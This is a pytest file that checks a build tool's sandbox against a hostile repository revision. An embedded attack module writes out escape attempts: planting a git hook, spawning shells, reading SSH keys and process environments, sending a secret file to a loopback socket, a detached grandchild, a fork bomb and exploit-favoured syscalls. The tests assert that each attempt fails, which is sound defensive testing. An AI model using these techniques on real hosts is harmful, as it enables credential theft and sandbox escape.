"""A hostile revision under `--verify`: its loaded module tries every way out of the sandbox,
and nothing it does reaches the host (no file, no socket, no process that outlives it, no
hook in the repository), nothing it sends the harness breaks the build.

The fixture project is the verify tests' own (tests/verify_fixture.py); this revision's
`environ.py`, a module the child executes for real, carries the attacks below."""

from __future__ import annotations

import os
import platform
import socket
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest
from kverr.verify import confine
from kverr.verify.harness import Harness, Target
from verify_fixture import ARGS, ENVIRON, SERVER_ARGS, fake_repo, fake_spec, line_of

# Run at import of the revision's environ.py: each attempt on its own, failures swallowed, as
# a real attacker's would be. The placeholders are filled per test with host paths.
ATTACKS = '''
import _io
import _socket
import ctypes
import os
import posix
import signal
import sys
import time

HOST = {host!r}  # a folder of the host, outside the child's scratch directory
REPO = {repo!r}
PORT = {port}
TOKEN = {token!r}


def _try(attempt):
    try:
        attempt()
    except BaseException:
        pass


def _send(data):
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(("127.0.0.1", PORT))
    s.sendall(data)


def _grandchild():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", TOKEN])
        os._exit(0)


_try(lambda: os.close(os.open(HOST + "/by-os-open", os.O_CREAT | os.O_WRONLY)))
_try(lambda: _io.FileIO(HOST + "/by-fileio", "w").write(b"x"))
_try(lambda: os.unlink(HOST + "/keep"))
_try(lambda: os.rename(HOST + "/keep", HOST + "/moved"))
_try(lambda: open(REPO + "/.git/hooks/post-checkout", "w").write("#!/bin/sh\\n"))
_try(lambda: os.mkdir(REPO + "/.git/planted"))
_try(lambda: posix.system("touch " + HOST + "/by-system"))
_try(lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "touch " + HOST + "/by-spawn"], {{}}))
_try(lambda: ctypes.CDLL(None).system(("touch " + HOST + "/by-ctypes").encode()))
_try(lambda: _send(open(HOST + "/secret", "rb").read()))
_try(lambda: _send(open("/proc/%d/environ" % os.getppid(), "rb").read()))
_try(_grandchild)


def attack(what):
    """Run-time attacks, asked for by the run's environment (FAKE_ATTACK)."""
    answers = int(sys.argv[sys.argv.index("--fds") + 1].split(",")[1])
    if what == "garbage":
        os.write(answers, (5).to_bytes(4, "big") + b"hello")
    elif what == "huge":
        os.write(answers, (2**31).to_bytes(4, "big"))
    elif what == "half":
        signal.signal(signal.SIGPROF, signal.SIG_IGN)
        os.write(answers, (4096).to_bytes(4, "big") + b"{{")
        time.sleep(3600)
    elif what == "memory":
        bytearray(1536 << 20)
    elif what == "forks":
        n = 0
        try:
            for _ in range(300):
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
                n += 1
        finally:
            raise RuntimeError("forked %d" % n)
    elif what == "syscalls":  # ptrace(TRACEME), io_uring_setup, bpf: x86-64 numbers
        libc = ctypes.CDLL(None, use_errno=True)
        errnos = []
        for nr in (101, 425, 321):
            libc.syscall(nr, 0, 0, 0, 0)
            errnos.append(ctypes.get_errno())
        raise OSError("errnos %s" % errnos)
    elif what == "read":
        seen = []
        for path in [HOST + "/secret", os.path.expanduser("~/.ssh/id_ed25519")] + [
            "/proc/%s/environ" % p for p in os.listdir("/proc") if p.isdigit()
        ]:
            try:
                seen.append(open(path, "rb").read().decode("latin-1"))
            except OSError as exc:
                seen.append(type(exc).__name__)
        raise ValueError(" ".join(seen))
'''

# The check runs the attack named by the run's environment before it validates.
HOOK = (
    "        if self.phone_home:\n"
    "            from fakesrv.srt.environ import attack\n"
    '            attack(os.environ.get("FAKE_ATTACK"))\n'
)
FOO = Target(ARGS, "ServerArgs._handle_misc", line_of("needs FAKE_ALLOW_FOO"))
SECRET = "kverr-secret-" + uuid.uuid4().hex


@pytest.fixture
def scene(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    host = tmp_path / "host"
    host.mkdir()
    (host / "keep").write_text("still here")
    (host / "secret").write_text(SECRET)
    monkeypatch.setenv("KVERR_TEST_SECRET", SECRET)  # in the harness's own environment
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    token = f"{3000 + uuid.uuid4().int % 1000}.{os.getpid()}"
    repo = tmp_path / "repo"
    args = SERVER_ARGS.replace(
        "        if self.phone_home:  # the harness's test listens on this port of the host's loopback\n"
        '            socket.create_connection(("127.0.0.1", int(os.environ["FAKE_PORT"])), timeout=2)\n',
        HOOK,
    )
    assert args != SERVER_ARGS
    attacks = ATTACKS.format(
        host=str(host), repo=str(repo), port=listener.getsockname()[1], token=token
    )
    g, sha = fake_repo(repo, **{"python/fakesrv/srt/environ.py": ENVIRON + attacks, ARGS: args})
    work = tmp_path / "work"
    work.mkdir()
    harness = Harness(fake_spec(), repo=str(g.root), sha=sha, workdir=work, timeout=1.0)
    yield harness, host, listener, token, g.root
    harness.close()
    listener.close()


def _accepted(listener: socket.socket) -> bool:
    try:
        conn, _ = listener.accept()
    except TimeoutError:
        return False
    conn.close()
    return True


def _processes_with(token: str) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if token.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            pass
    return found


@pytest.mark.sandbox
def test_the_attacks_at_load_reach_nothing_outside(scene) -> None:
    harness, host, listener, token, repo = scene
    assert harness.run([], {}, FOO).status == "passed"  # the revision loaded and runs
    harness.close()
    time.sleep(0.3)
    assert sorted(p.name for p in host.iterdir()) == ["keep", "secret"]
    assert (host / "keep").read_text() == "still here"
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
    assert not (repo / ".git" / "planted").exists()
    assert not _accepted(listener)
    assert _processes_with(token) == []  # the setsid grandchild died with the sandbox


@pytest.mark.sandbox
def test_what_it_can_read_holds_no_secret_of_the_host(scene) -> None:
    harness, *_ = scene
    out = harness.run(["--phone-home"], {"FAKE_ATTACK": "read"}, FOO)
    assert out.status == "raised" and out.exc_class == "ValueError"
    assert SECRET not in out.message
    assert "FileNotFoundError" in out.message  # the host's files are not there at all


@pytest.mark.sandbox
def test_memory_and_processes_are_bounded(scene) -> None:
    harness, *_ = scene
    out = harness.run(["--phone-home"], {"FAKE_ATTACK": "memory"}, FOO)
    assert out.status == "raised" and out.exc_class == "MemoryError"
    out = harness.run(["--phone-home"], {"FAKE_ATTACK": "forks"}, FOO)
    assert out.status == "raised" and out.message.startswith("forked ")
    assert int(out.message.split()[1]) < confine.Limits().processes


@pytest.mark.sandbox
@pytest.mark.skipif(platform.machine() != "x86_64", reason="the attack uses x86-64 numbers")
def test_the_calls_kernel_exploits_favour_are_refused(scene) -> None:
    harness, *_ = scene
    out = harness.run(["--phone-home"], {"FAKE_ATTACK": "syscalls"}, FOO)
    assert out.status == "raised" and out.message == "errnos [1, 1, 1]"  # EPERM each


@pytest.mark.sandbox
@pytest.mark.parametrize("attack", ["garbage", "huge"])
def test_a_forged_frame_is_a_harness_outcome_and_the_next_run_works(scene, attack) -> None:
    harness, *_ = scene
    out = harness.run(["--phone-home"], {"FAKE_ATTACK": attack}, FOO)
    assert out.status == "error" and out.reason.startswith("harness: ")
    assert harness.run([], {}, FOO).status == "passed"


@pytest.mark.sandbox
def test_half_a_frame_with_the_cpu_budget_ignored_is_a_timeout(scene) -> None:
    harness, _, _, token, _ = scene
    started = time.monotonic()
    out = harness.run(["--phone-home"], {"FAKE_ATTACK": "half"}, FOO)
    assert out.status == "timeout"
    assert time.monotonic() - started < harness.wall_deadline() + 5
    assert harness.run([], {}, FOO).status == "passed"


def test_without_a_sandbox_verify_refuses_unless_trusted(tmp_path: Path) -> None:
    """No bubblewrap on PATH: `kverr build --verify` says so in one line and exits 2."""
    g, _ = fake_repo(tmp_path / "repo")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "git").symlink_to(subprocess.check_output(["which", "git"], text=True).strip())
    env = {**os.environ, "PATH": str(bin_dir)}
    cmd = [sys.executable, "-m", "kverr", "build", "--git", str(g.root), "--rev", "HEAD"]
    cmd += ["--files", "python/**/*.py", "--out", str(tmp_path / "out"), "--verify"]
    done = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=120)
    assert done.returncode == 2, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "bwrap is not installed" in lines[0] and "--trust-repo" in lines[0]
    assert not (tmp_path / "out").exists()
